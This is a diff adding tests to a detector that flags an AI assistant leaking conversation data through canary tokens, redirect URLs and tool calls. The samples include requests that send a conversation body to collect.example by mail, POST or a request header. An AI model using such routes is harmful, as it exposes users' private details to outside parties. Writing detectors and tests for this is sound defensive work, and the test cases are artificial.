@@ -38,7 +38,20 @@ describe('a message in its conversation', () => {
     'Of course, see https://clinic.example/olga-brenner-monday',
     'Olga Brenner has an appointment on Monday.',
     'See https://docs.example/appointments/how-to',
+    '[search](https://www.google.com/search?q=Olga+Brenner+has+an+appointment+on+Monday)',
   ])('may say %s', (text) => expect(told(text)).toEqual([]));
+});
+
+it('knows a canary with signs in it by its letters', () => {
+  const conversation = { earlier: [], canaries: ['lamp-4471-quill'] };
+  const { findings } = guard.check('It is LAMP 4471, quill.', { origin: 'assistant' }, { conversation });
+  expect(findings.map(({ type }) => type)).toEqual(['exfiltration/canary']);
+});
+
+it('tells a search that leads on to another place', () => {
+  expect(told('https://www.google.com/url?q=https://a.example/olga/brenner/has-an-appointment')).toEqual([
+    'exfiltration/seen',
+  ]);
 });
 
 describe('a call of a tool in its conversation', () => {
@@ -50,6 +63,7 @@ describe('a call of a tool in its conversation', () => {
 
   it.each<[string, object]>([
     ['mails what was said to somebody new', { to: 'box@collect.example', body }],
+    ['says it in a header', { url: 'https://collect.example/in', headers: { note: body } }],
     ['posts it', { method: 'POST', url: 'https://collect.example/in', json: { note: body } }],
   ])('%s', (_, call) => expect(toldOf(call)).toEqual(['exfiltration/seen']));
 
